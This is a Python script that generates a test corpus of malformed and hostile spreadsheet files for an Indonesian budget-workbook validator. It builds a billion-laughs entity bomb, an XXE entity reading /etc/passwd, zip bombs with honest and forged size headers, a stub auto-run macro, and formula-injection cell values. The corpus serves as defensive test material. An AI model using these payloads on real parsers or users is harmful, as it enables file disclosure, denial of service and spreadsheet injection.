"""Generate the corpus of broken and hostile inputs (issue 6).

    python tests/bad_inputs/make_corpus.py            # (re)write every file here
    python tests/bad_inputs/make_corpus.py --check    # only say which files differ

Every file is small (< 1 MB). The workbook-based ones start from the valid workbook of the rule
tests (``write_filled(valid_data())``) and are then edited in the zip's XML directly, so cached
formula results survive and each file differs from the valid one in the one way it is named for.
``expected.json`` (written here too) holds what `check` must do with each file; the tests in
``tests/test_bad_inputs.py`` read it, and ``README.md`` is generated from the same table.

Two files need a package that is only used here, at development time:
- ``encrypted.xlsx``: msoffcrypto-tool encrypts the valid workbook (password ``rahasia``).
- ``old_format.xls``: xlwt writes a real BIFF8 workbook.
Without them a stand-in with the same first bytes (an OLE2 compound file) is written.
"""
from __future__ import annotations

import argparse
import hashlib
import io
import json
import random
import re
import struct
import sys
import tempfile
import zipfile
from pathlib import Path
from xml.sax.saxutils import escape

HERE = Path(__file__).resolve().parent
TESTS = HERE.parent
sys.path.insert(0, str(TESTS))
sys.path.insert(0, str(TESTS.parent))

from lkjip_xl.schema import SCHEMA  # noqa: E402
from lkjip_xl.template.fill import write_filled  # noqa: E402
from valid_workbook import valid_data  # noqa: E402

OLE2_MAGIC = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"
FIXED_DATE = (2024, 1, 1, 0, 0, 0)
SHEET_FILES = {  # the template's sheet order (xlsxwriter numbers the parts in that order)
    sheet.name: f"xl/worksheets/sheet{i}.xml" for i, sheet in enumerate(SCHEMA.sheets, start=1)
}
REALISASI = SHEET_FILES["Realisasi"]
BOMB_MIB = 768  # decompressed size of the zip bomb's sheet; deflate keeps it near 1/1000 of that
INJECTION = {
    "C7": '=HYPERLINK("http://contoh.invalid/?q="&A1,"klik")',
    "D7": "+SUM(1,1)",
    "E7": "-2+3",
    "N7": "@SUM(A1:A2)",
    "I7": "=1+1",
}


# ----------------------------------------------------------------------------------- zip edits
def read_members(path: Path) -> list[tuple[str, bytes]]:
    with zipfile.ZipFile(path) as zf:
        return [(i.filename, zf.read(i.filename)) for i in zf.infolist()]


def write_members(path: Path, members: list[tuple[str, bytes]]) -> None:
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as zf:
        for name, data in members:
            info = zipfile.ZipInfo(name, date_time=FIXED_DATE)
            info.compress_type = zipfile.ZIP_DEFLATED
            zf.writestr(info, data)


def edited(valid: Path, out: Path, edits: dict, extra: list[tuple[str, bytes]] = (), drop: set = frozenset()):
    """Copy ``valid`` to ``out`` applying ``edits`` (member -> function(bytes) -> bytes)."""
    members = []
    for name, data in read_members(valid):
        if name in drop:
            continue
        if name in edits:
            data = edits[name](data)
        members.append((name, data))
    members.extend(extra)
    write_members(out, members)


def cell_pattern(ref: str) -> re.Pattern:
    return re.compile(rb'<c r="' + ref.encode() + rb'"(?:\s[^>]*)?(?:/>|>.*?</c>)', re.S)


def style_of(xml: bytes, ref: str) -> bytes:
    m = re.search(rb'<c r="' + ref.encode() + rb'"[^>]*?\ss="(\d+)"', xml)
    return m.group(1) if m else b"0"


def inline(ref: str, text: str, style: bytes | None = None) -> bytes:
    s = b' s="' + style + b'"' if style else b""
    return (b'<c r="' + ref.encode() + b'"' + s + b' t="inlineStr"><is><t xml:space="preserve">'
            + escape(text).encode() + b"</t></is></c>")


def set_cell(xml: bytes, ref: str, cell: bytes) -> bytes:
    """Replace the <c> of ``ref``, or add it (at the end of its row, or in a new row)."""
    pat = cell_pattern(ref)
    if pat.search(xml):
        return pat.sub(lambda _m: cell, xml, count=1)
    row = int(re.match(r"[A-Z]+(\d+)", ref).group(1))
    m = re.search(rb'<row r="' + str(row).encode() + rb'"[^>]*?(/?)>', xml)
    if m and not m.group(1):
        end = xml.index(b"</row>", m.end())
        return xml[:end] + cell + xml[end:]
    new_row = b'<row r="' + str(row).encode() + b'">' + cell + b"</row>"
    for r in re.finditer(rb'<row r="(\d+)"', xml):
        if int(r.group(1)) > row:
            return xml[:r.start()] + new_row + xml[r.start():]
    end = xml.index(b"</sheetData>")
    return xml[:end] + new_row + xml[end:]


def sub1(pattern: bytes, repl: bytes, data: bytes) -> bytes:
    new, n = re.subn(pattern, lambda _m: repl, data, count=1)
    assert n == 1, pattern
    return new


# ------------------------------------------------------------------------- workbook.xml edits
def sheets_of(workbook_xml: bytes) -> list[bytes]:
    return re.findall(rb"<sheet [^>]*/>", workbook_xml)


def sheet_name(sheet_el: bytes) -> str:
    return re.search(rb'name="([^"]*)"', sheet_el).group(1).decode()


def reorder_sheets(valid: Path, out: Path, order: list[str]) -> None:
    """Keep the sheets named in ``order``, in that order (the others are deleted)."""
    members = dict(read_members(valid))
    wb = members["xl/workbook.xml"]
    old = sheets_of(wb)
    by_name = {sheet_name(s): s for s in old}
    old_index = {sheet_name(s): i for i, s in enumerate(old)}
    new_index = {name: i for i, name in enumerate(order)}
    deleted = [n for n in by_name if n not in new_index]
    block = b"<sheets>" + b"".join(by_name[n] for n in order) + b"</sheets>"
    wb = re.sub(rb"<sheets>.*?</sheets>", lambda _m: block, wb, flags=re.S)

    def fix_name(m):
        el = m.group(0)
        local = re.search(rb'localSheetId="(\d+)"', el)
        target = el.decode()
        if any(re.search(rf">'?{re.escape(n)}'?!", target) for n in deleted):
            return b""
        if local:
            name = [n for n, i in old_index.items() if i == int(local.group(1))][0]
            el = el.replace(local.group(0), b'localSheetId="%d"' % new_index[name])
        return el

    wb = re.sub(rb"<definedName [^>]*>[^<]*</definedName>", fix_name, wb)
    members["xl/workbook.xml"] = wb
    drop = set()
    if deleted:
        rels = members["xl/_rels/workbook.xml.rels"]
        types = members["[Content_Types].xml"]
        for n in deleted:
            rid = re.search(rb'r:id="([^"]+)"', by_name[n]).group(1)
            part = SHEET_FILES[n]
            rels = re.sub(rb'<Relationship Id="' + rid + rb'"[^>]*/>', b"", rels)
            types = re.sub(rb'<Override PartName="/' + part.encode() + rb'"[^>]*/>', b"", types)
            drop |= {part, part.replace("worksheets/", "worksheets/_rels/") + ".rels"}
        members["xl/_rels/workbook.xml.rels"] = rels
        members["[Content_Types].xml"] = types
    write_members(out, [(k, v) for k, v in members.items() if k not in drop])


# --------------------------------------------------------------------------------- the corpus
CORPUS: list[dict] = []


def case(name: str, what: str, exit_code: int, *, key: str | None = None, codes: tuple = (),
         container: bool = False, note: str = ""):
    """Register a generator. ``key``: the message key of an exit-2 refusal; ``codes``: findings
    ("Sheet!A1 CODE") that must be reported; ``container``: refused before any sheet is read, so
    every command refuses it the same way."""
    def register(fn):
        CORPUS.append({"file": name, "what": what, "exit": exit_code, "key": key, "codes": list(codes),
                       "container": container, "note": note, "make": fn})
        return fn
    return register


@case("empty.xlsx", "A file of 0 bytes.", 2, key="empty_file", container=True)
def _empty(valid, out):
    out.write_bytes(b"")


@case("random_bytes.xlsx", "4 KiB of random bytes (fixed seed) named .xlsx.", 2, key="not_xlsx", container=True)
def _random(valid, out):
    data = random.Random(20240601).randbytes(4096)
    assert not data.startswith((b"PK", OLE2_MAGIC))
    out.write_bytes(data)


@case("old_format.xls", "An Excel 97-2003 .xls (BIFF8 in an OLE2 compound file).", 2, key="old_xls",
      container=True)
def _old_xls(valid, out):
    try:
        import xlwt
    except ImportError:  # stand-in: the OLE2 header and nothing a reader could use
        out.write_bytes(OLE2_MAGIC + b"\x00" * 504)
        return
    book = xlwt.Workbook()
    for name in ("Identitas", "PK", "Realisasi"):
        sheet = book.add_sheet(name)
        sheet.write(0, 0, f"{name} (format lama)")
        sheet.write(4, 0, "01")
        sheet.write(4, 8, 1_000_000)
    buf = io.BytesIO()
    book.save(buf)
    out.write_bytes(buf.getvalue())


@case("csv_renamed.xlsx", "A CSV export of the budget renamed to .xlsx.", 2, key="not_xlsx", container=True)
def _csv(valid, out):
    out.write_text("Kode;Uraian;Pagu Murni (Rp);Realisasi (Rp)\n01;Program Penunjang;1.000.000.000;"
                   "1.000.000.000\n01.01;Administrasi Keuangan;1.000.000.000;1.000.000.000\n", encoding="utf-8")


@case("encrypted.xlsx", "The valid workbook saved with a password (an OLE2 file holding EncryptedPackage).",
      2, key="encrypted", container=True)
def _encrypted(valid, out):
    try:
        from msoffcrypto.format.ooxml import OOXMLFile
    except ImportError:  # stand-in: an OLE2 file that names the EncryptedPackage stream
        out.write_bytes(OLE2_MAGIC + b"\x00" * 504 + "EncryptedPackage".encode("utf-16-le") + b"\x00" * 1024)
        return
    with open(valid, "rb") as src, open(out, "wb") as dst:
        OOXMLFile(src).encrypt("rahasia", dst)


@case("macros.xlsm", "The valid workbook with a VBA project part (xl/vbaProject.bin) and the macro-enabled "
      "content type. Macros are never run; the data is checked as usual.", 0,
      note="an annotated copy is a plain .xlsx: the macros are not carried over")
def _xlsm(valid, out):
    vba = OLE2_MAGIC + b"\x00" * 504 + b"Attribute VB_Name = \"Module1\"\r\nSub AutoOpen()\r\nEnd Sub\r\n"

    def types(x):
        x = x.replace(b"application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml",
                      b"application/vnd.ms-excel.sheet.macroEnabled.main+xml")
        return x.replace(b"<Default Extension=\"xml\"", b'<Default Extension="bin" ContentType='
                         b'"application/vnd.ms-office.vbaProject"/><Default Extension="xml"')

    def rels(x):
        return x.replace(b"</Relationships>", b'<Relationship Id="rId99" Type="http://schemas.microsoft.com/office/'
                         b'2006/relationships/vbaProject" Target="vbaProject.bin"/></Relationships>')

    edited(valid, out, {"[Content_Types].xml": types, "xl/_rels/workbook.xml.rels": rels},
           extra=[("xl/vbaProject.bin", vba)])


BILLION_LAUGHS = (b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n<!DOCTYPE worksheet [\n'
                  b' <!ENTITY lol "lol">\n'
                  + b"".join(b' <!ENTITY lol%d "%s">\n' % (i, (b"&lol%d;" % (i - 1) if i > 1 else b"&lol;") * 10)
                             for i in range(1, 10))
                  + b"]>\n")


@case("entity_bomb.xlsx", "Billion laughs: a DOCTYPE declaring nested entities at the top of the Realisasi "
      "sheet's XML, used in a cell (&lol9; expands to 10^9 'lol').", 2, key="unsafe_xml", container=True)
def _bomb_entities(valid, out):
    def edit(x):
        x = BILLION_LAUGHS + x[x.index(b"<worksheet"):]
        return set_cell(x, "C7", b'<c r="C7" t="inlineStr"><is><t>&lol9;</t></is></c>')
    edited(valid, out, {REALISASI: edit})


@case("external_entity.xlsx", "XXE: the shared strings declare an external entity "
      "(SYSTEM \"file:///etc/passwd\") and use it in a string.", 2, key="unsafe_xml", container=True)
def _xxe(valid, out):
    def edit(x):
        head = (b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
                b'<!DOCTYPE sst [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>\n')
        x = head + x[x.index(b"<sst"):]
        return x.replace(b"<t>", b"<t>&xxe;", 1)
    edited(valid, out, {"xl/sharedStrings.xml": edit})


def _bomb_member(zf: zipfile.ZipFile, name: str, head: bytes, tail: bytes, mib: int, unit: bytes) -> None:
    info = zipfile.ZipInfo(name, date_time=FIXED_DATE)
    info.compress_type = zipfile.ZIP_DEFLATED
    for attr in ("compress_level", "_compresslevel"):  # level 9 (the name changed in Python 3.13)
        try:
            setattr(info, attr, 9)
        except AttributeError:
            pass
    block = unit * ((1 << 20) // len(unit))
    with zf.open(info, "w", force_zip64=True) as fh:
        fh.write(head)
        for _ in range(mib):
            fh.write(block)
        fh.write(tail)


@case("zip_bomb.xlsx", f"Zip bomb: the Realisasi sheet's XML is {BOMB_MIB} MiB of blanks (declared honestly), "
      "deflated to under 1 MB (ratio about 1000:1).", 2, key="too_large", container=True)
def _zip_bomb(valid, out):
    members = read_members(valid)
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as zf:
        for name, data in members:
            if name == REALISASI:
                i = data.index(b"<sheetData>") + len(b"<sheetData>")
                _bomb_member(zf, name, data[:i], data[i:], BOMB_MIB, b" ")
            else:
                info = zipfile.ZipInfo(name, date_time=FIXED_DATE)
                info.compress_type = zipfile.ZIP_DEFLATED
                zf.writestr(info, data)


@case("zip_bomb_lying.xlsx", "Zip bomb whose size fields lie: the Realisasi sheet's entry declares its "
      "original size but inflates to 64 MiB of rows without cell references.", 2, key="unreadable",
      container=True)
def _zip_bomb_lying(valid, out):
    members = read_members(valid)
    declared = None
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as zf:
        for name, data in members:
            if name == REALISASI:
                declared = len(data)
                i = data.index(b"<sheetData>") + len(b"<sheetData>")
                _bomb_member(zf, name, data[:i], data[i:], 64, b"<row><c><v>1</v></c></row>")
            else:
                info = zipfile.ZipInfo(name, date_time=FIXED_DATE)
                info.compress_type = zipfile.ZIP_DEFLATED
                zf.writestr(info, data)
    raw = bytearray(out.read_bytes())
    name = REALISASI.encode()
    for sig, name_len_at, name_at, size_at in ((b"PK\x03\x04", 26, 30, 22), (b"PK\x01\x02", 28, 46, 24)):
        p = raw.find(sig)
        while p >= 0:
            n = struct.unpack_from("<H", raw, p + name_len_at)[0]
            if raw[p + name_at:p + name_at + n] == name:
                if struct.unpack_from("<I", raw, p + size_at)[0] != 0xFFFFFFFF:
                    struct.pack_into("<I", raw, p + size_at, declared)
                extra_len = struct.unpack_from("<H", raw, p + name_len_at + 2)[0]
                extra = p + name_at + n
                q = extra
                while q < extra + extra_len:  # the zip64 extra field holds the sizes too
                    tag, size = struct.unpack_from("<HH", raw, q)
                    if tag == 1:
                        struct.pack_into("<Q", raw, q + 4, declared)
                    q += 4 + size
                break
            p = raw.find(sig, p + 4)
    out.write_bytes(bytes(raw))


@case("truncated.xlsx", "The valid workbook cut off after half its bytes (an interrupted download).", 2,
      key="not_xlsx", container=True)
def _truncated(valid, out):
    data = valid.read_bytes()
    out.write_bytes(data[: len(data) // 2])


@case("not_lkjip.xlsx", "A real xlsx that is not an LKjIP workbook (one sheet, 'Sheet1').", 2, key="not_lkjip",
      container=True)
def _not_lkjip(valid, out):
    import xlsxwriter

    wb = xlsxwriter.Workbook(str(out))
    wb.set_properties({"created": __import__("datetime").datetime(2024, 1, 1)})
    ws = wb.add_worksheet()
    ws.write_row(0, 0, ["No", "Nama", "Nilai"])
    ws.write_row(1, 0, [1, "Contoh", 100])
    wb.close()


@case("sheet_renamed.xlsx", "Realisasi renamed to 'Realisasi 2024' (read as Realisasi, said as a note).", 0,
      codes=("Realisasi 2024!A1 STR014",))
def _renamed(valid, out):
    def wb(x):
        x = x.replace(b'name="Realisasi"', b'name="Realisasi 2024"')
        return x.replace(b">Realisasi!", b">'Realisasi 2024'!")
    edited(valid, out, {"xl/workbook.xml": wb})


@case("sheet_deleted.xlsx", "The Belanja sheet deleted.", 1, codes=("Belanja!A1 STR001",))
def _deleted(valid, out):
    reorder_sheets(valid, out, [n for n in SHEET_FILES if n != "Belanja"])


@case("sheets_mostly_deleted.xlsx", "Only Petunjuk, Identitas and PK left (fewer than three data sheets).", 2,
      key="not_lkjip", container=True)
def _mostly_deleted(valid, out):
    reorder_sheets(valid, out, ["Petunjuk", "Identitas", "PK", "_Daftar"])


@case("sheets_reordered.xlsx", "The sheets in another order (Realisasi and SKM first). Sheets are found by "
      "name, so nothing changes.", 0)
def _reordered(valid, out):
    first = ["Realisasi", "SKM", "PK"]
    reorder_sheets(valid, out, first + [n for n in SHEET_FILES if n not in first])


@case("extra_column.xlsx", "A column added right of the Realisasi table (header O4 'Catatan Auditor', a value "
      "in O7).", 0, codes=("Realisasi!O4 STR006",))
def _extra_column(valid, out):
    def edit(x):
        x = set_cell(x, "O4", inline("O4", "Catatan Auditor", style_of(x, "N4")))
        return set_cell(x, "O7", inline("O7", "cek ulang SPJ"))
    edited(valid, out, {REALISASI: edit})


@case("missing_column.xlsx", "The header of Realisasi (Rp), Realisasi!K4, deleted (its values are still "
      "there). The other columns are still found.", 1, codes=("Realisasi!K4 STR002",))
def _missing_column(valid, out):
    edited(valid, out, {REALISASI: lambda x: set_cell(x, "K4", b'<c r="K4" s="' + style_of(x, "K4") + b'"/>')})


@case("merged_cells.xlsx", "Merged cells inside the Realisasi data: C7:C8 (two uraian) and I7:J7 (pagu murni "
      "and perubahan). As in Excel, only the top-left cell keeps its value.", 1,
      codes=("Realisasi!C8 VAL005", "Realisasi!C7 STR007", "Realisasi!I7 STR007",))
def _merged(valid, out):
    def edit(x):
        x = set_cell(x, "C8", b'<c r="C8" s="' + style_of(x, "C8") + b'"/>')
        x = set_cell(x, "J7", b'<c r="J7" s="' + style_of(x, "J7") + b'"/>')
        merge = b'<mergeCells count="2"><mergeCell ref="C7:C8"/><mergeCell ref="I7:J7"/></mergeCells>'
        return sub1(rb"<dataValidations\b", merge + b"<dataValidations", x)
    edited(valid, out, {REALISASI: edit})


@case("hidden_rows_columns.xlsx", "Realisasi rows 7-8 and column D hidden. Hidden cells are read like the "
      "others.", 0)
def _hidden(valid, out):
    def edit(x):
        for r in (b"7", b"8"):
            x = sub1(rb'<row r="' + r + rb'"', b'<row r="' + r + b'" hidden="1"', x)
        return sub1(rb'<col min="4" max="4"', b'<col min="4" max="4" hidden="1"', x)
    edited(valid, out, {REALISASI: edit})


@case("row_1048576.xlsx", "A note typed in Realisasi!A1048576, the last row Excel has.", 2, key="too_many_rows",
      container=True, note="refused before python-calamine builds a million-row grid")
def _last_row(valid, out):
    edited(valid, out, {REALISASI: lambda x: set_cell(x, "A1048576", inline("A1048576", "catatan"))})


@case("last_column.xlsx", "A value in Realisasi!XFD400, the last column Excel has.", 2, key="sheet_too_large",
      container=True, note="400 rows x 16.384 columns is over the grid limit")
def _last_column(valid, out):
    edited(valid, out, {REALISASI: lambda x: set_cell(x, "XFD400", b'<c r="XFD400"><v>1</v></c>')})


@case("formula_errors.xlsx", "Cached error values: #DIV/0! in the formula cell Realisasi!L7, #REF! typed in "
      "the input cell I8, and #N/A in H8 as the child of a shared formula.", 1,
      codes=("Realisasi!L7 VAL010", "Realisasi!I8 VAL010", "Realisasi!H8 VAL010"))
def _errors(valid, out):
    def edit(x):
        l7 = re.search(rb'<c r="L7"[^>]*>(<f>.*?</f>)<v>[^<]*</v></c>', x).group(1)
        x = set_cell(x, "L7", b'<c r="L7" s="' + style_of(x, "L7") + b'" t="e">' + l7 + b"<v>#DIV/0!</v></c>")
        x = set_cell(x, "I8", b'<c r="I8" s="' + style_of(x, "I8") + b'" t="e"><v>#REF!</v></c>')
        h7 = re.search(rb'<c r="H7"[^>]*><f>(.*?)</f><v>([^<]*)</v></c>', x)
        x = set_cell(x, "H7", b'<c r="H7" s="' + style_of(x, "H7") + b'"><f t="shared" ref="H7:H8" si="0">'
                     + h7.group(1) + b"</f><v>" + h7.group(2) + b"</v></c>")
        return set_cell(x, "H8", b'<c r="H8" s="' + style_of(x, "H8") + b'" t="e"><f t="shared" si="0"/>'
                        b"<v>#N/A</v></c>")
    edited(valid, out, {REALISASI: edit})


@case("long_cells.xlsx", "32.767-character cells (Excel's maximum): the uraian Realisasi!C7, the output "
      "indicator D7 (starting with '='), and the pagu murni I7 (32.767 digits typed as text: more than "
      "the 15 significant digits a number can have).", 1, codes=("Realisasi!I7 VAL013",))
def _long(valid, out):
    def edit(x):
        x = set_cell(x, "C7", inline("C7", ("Penyediaan Gaji dan Tunjangan ASN " * 1000)[:32767], style_of(x, "C7")))
        x = set_cell(x, "D7", inline("D7", ("=" + "A" * 32766), style_of(x, "D7")))
        return set_cell(x, "I7", inline("I7", "8" + "0" * 32766, style_of(x, "I7")))
    edited(valid, out, {REALISASI: edit})


def _date_style(members: dict) -> bytes:
    styles = members["xl/styles.xml"].decode()
    fmt = re.search(r'<numFmt numFmtId="(\d+)" formatCode="dd/mm/yyyy"/>', styles).group(1)
    xfs = re.findall(r"<xf [^>]*?(?:/>|>.*?</xf>)", styles[styles.index("<cellXfs"):], re.S)
    return str(next(i for i, xf in enumerate(xfs) if f'numFmtId="{fmt}"' in xf)).encode()


@case("dates_in_numbers.xlsx", "Dates where money belongs: Realisasi!I7 (pagu murni) and K7 (realisasi) hold "
      "date serials with a date format.", 1, codes=("Realisasi!I7 VAL011", "Realisasi!K7 VAL011"))
def _dates(valid, out):
    s = _date_style(dict(read_members(valid)))

    def edit(x):
        x = set_cell(x, "I7", b'<c r="I7" s="' + s + b'"><v>45292</v></c>')
        return set_cell(x, "K7", b'<c r="K7" s="' + s + b'"><v>45657</v></c>')
    edited(valid, out, {REALISASI: edit})


@case("old_version.xlsx", "An older template: version 0.9 in _Daftar!B1, Petunjuk!B3 and the document "
      "properties.", 0, codes=("Petunjuk!B3 STR004",))
def _old_version(valid, out):
    edited(valid, out, {
        SHEET_FILES["_Daftar"]: lambda x: set_cell(x, "B1", inline("B1", "0.9")),
        SHEET_FILES["Petunjuk"]: lambda x: set_cell(x, "B3", inline("B3", "0.9")),
        "docProps/custom.xml": lambda x: x.replace(b"<vt:lpwstr>1.0</vt:lpwstr>", b"<vt:lpwstr>0.9</vt:lpwstr>"),
    })


@case("formula_injection.xlsx", "User text that a spreadsheet would take for a formula, copied from cells into "
      "outputs: " + ", ".join(f"Realisasi!{k} = {v!r}" for k, v in INJECTION.items()) + ".", 1,
      codes=("Realisasi!I7 VAL013", "Realisasi!N7 VAL007"),
      note="the annotated copy's Temuan sheet (and annex) must hold these as text, never as formulas")
def _injection(valid, out):
    def edit(x):
        for ref, text in INJECTION.items():
            x = set_cell(x, ref, inline(ref, text, style_of(x, ref)))
        return x
    edited(valid, out, {REALISASI: edit})


# ----------------------------------------------------------------------------------- writing
def _readme(entries: list[dict]) -> str:
    lines = [
        "# Broken and hostile inputs",
        "",
        "Generated by `python tests/bad_inputs/make_corpus.py` (do not edit the files by hand);",
        "`tests/test_bad_inputs.py` runs `check` (and `annex`, `skm` when the CLI has them) on each",
        "one in a subprocess and asserts the exit code, that no traceback is printed, that an exit 2",
        "prints one line, that the run ends in bounded time, and that the input is unchanged and",
        "nothing is written beside it. `expected.json` holds the table below.",
        "",
        "Exit codes: 0 no errors, 1 errors found, 2 could not run (one line on stderr). The message",
        "key names the line in `lkjip_xl/i18n.py`; findings are `Sheet!Cell CODE` (docs/rules.md).",
        "Files edited from the valid workbook by rewriting their XML keep their cached formula",
        "results, so they show only the findings their change causes.",
        "",
        "| File | What it is | `check` exits | Message / findings |",
        "| --- | --- | --- | --- |",
    ]
    for e in entries:
        what = e["what"] + (f" ({e['note']})" if e["note"] else "")
        outcome = f"`{e['key']}`" if e["key"] else (", ".join(f"`{c}`" for c in e["codes"]) or "no error findings")
        lines.append(f"| `{e['file']}` | {what} | {e['exit']} | {outcome} |")
    lines += [
        "",
        "`encrypted.xlsx` was written with msoffcrypto-tool and `old_format.xls` with xlwt, both only",
        "at generation time; without them the script writes stand-ins with the same OLE2 header.",
        "The limits these files run into are listed in `docs/limits.md`.",
        "",
    ]
    return "\n".join(lines)


def main() -> None:
    ap = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    ap.add_argument("--check", action="store_true", help="only report files whose content differs")
    ap.add_argument("--only", nargs="*", help="regenerate only these files")
    args = ap.parse_args()
    with tempfile.TemporaryDirectory() as tmp:
        valid = Path(tmp) / "valid.xlsx"
        write_filled(valid, valid_data())
        for entry in CORPUS:
            if args.only and entry["file"] not in args.only:
                continue
            target = HERE / entry["file"]
            out = Path(tmp) / entry["file"]
            entry["make"](valid, out)
            size = out.stat().st_size
            assert size < 1_000_000, (entry["file"], size)
            if args.check:
                same = target.exists() and target.read_bytes() == out.read_bytes()
                print(f"{'same' if same else 'DIFFERS'}  {entry['file']}")
            else:
                target.write_bytes(out.read_bytes())
                print(f"{size:>9,} B  {entry['file']}  sha256 {hashlib.sha256(out.read_bytes()).hexdigest()[:12]}")
    if not args.check:
        table = [{k: v for k, v in e.items() if k != "make"} for e in CORPUS]
        (HERE / "expected.json").write_text(json.dumps(table, indent=1, ensure_ascii=False) + "\n", encoding="utf-8")
        (HERE / "README.md").write_text(_readme(table), encoding="utf-8")


if __name__ == "__main__":
    main()
